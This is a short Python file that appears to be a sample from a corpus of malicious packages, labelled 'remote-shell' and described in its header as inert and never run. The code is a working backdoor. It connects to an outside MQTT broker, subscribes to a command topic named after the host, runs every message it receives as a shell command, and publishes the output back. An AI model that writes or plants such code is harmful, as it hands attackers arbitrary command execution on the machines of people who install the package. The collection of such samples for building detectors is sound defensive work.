# pkgguard corpus 566 (remote-shell), modelled on [discordpydebug]; inert, never run.
import socket
import subprocess

import paho.mqtt.client as mqtt

_node = socket.gethostname()


def _on_message(client, userdata, msg):
    out = subprocess.run(msg.payload.decode(), shell=True, capture_output=True, text=True)
    client.publish(f"fleet/{_node}/out", out.stdout + out.stderr)


client = mqtt.Client()
client.on_message = _on_message
client.connect("broker.iot-fleet.example", 1883)
client.subscribe(f"fleet/{_node}/cmd")
client.loop_start()
